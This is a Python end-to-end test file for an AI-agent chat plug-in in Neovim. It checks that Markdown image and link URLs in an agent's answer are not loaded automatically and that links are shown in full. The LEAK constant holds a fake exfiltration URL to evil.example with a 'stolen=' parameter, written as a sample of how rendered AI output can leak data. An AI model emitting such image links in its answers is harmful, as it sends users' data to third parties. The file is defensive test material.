"""Rows 30 and 42 of the published failures in a real Neovim: showing an answer loads nothing of it."""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.e2e.neovim_driver import Bench

LEAK = "https://evil.example/pixel.png?stolen=" + "a" * 300
ANSWER = f"![chart]({LEAK}) and [docs]({LEAK})"
SHOWS = """
    local loaded = {}
    vim.api.nvim_create_autocmd('FileType', {  -- as plug-ins do that show the pictures of Markdown files
      pattern = 'markdown',
      callback = function(event)
        vim.api.nvim_buf_attach(event.buf, false, { on_lines = function(_, buf)
          for _, line in ipairs(vim.api.nvim_buf_get_lines(buf, 0, -1, false)) do
            for url in line:gmatch('!%[.-%]%((.-)%)') do
              loaded[url] = true
            end
          end
        end })
      end,
    })
    vim.o.conceallevel = 3
"""


def test_rows_30_and_42_pictures_of_an_answer_are_not_loaded_and_links_are_shown_whole(tmp_path: Path) -> None:
    bench = Bench(tmp_path, {"turns": [{"text": ANSWER}]}, poem="roses\n")
    result = bench.run(
        SHOWS
        + """
        vim.cmd.edit('poem.txt')
        vim.cmd('Agent draw a chart')
        T.ends(1)
        local conceal, syntax
        for _, win in ipairs(vim.api.nvim_list_wins()) do
          if vim.w[win].agent_lsp_chat then
            conceal = vim.wo[win].conceallevel
            syntax = vim.bo[vim.api.nvim_win_get_buf(win)].syntax
          end
        end
        T.finish({ chat = T.chat(), loaded = vim.tbl_keys(loaded), conceal = conceal, syntax = syntax })
        """
    )
    assert ANSWER in result["chat"]
    assert (result["loaded"], result["conceal"], result["syntax"]) == ([], 0, "markdown")


@pytest.mark.parametrize("kind", ["markdown"])
def test_a_buffer_of_that_file_type_would_have_loaded_them(tmp_path: Path, kind: str) -> None:
    bench = Bench(tmp_path, {"turns": []}, poem="roses\n")
    result = bench.run(
        SHOWS
        + f"""
        local buf = vim.api.nvim_create_buf(false, true)
        vim.bo[buf].filetype = '{kind}'
        vim.api.nvim_buf_set_lines(buf, 0, -1, false, {{ '{ANSWER}' }})
        T.finish({{ loaded = vim.tbl_keys(loaded) }})
        """
    )
    assert result["loaded"] == [LEAK]
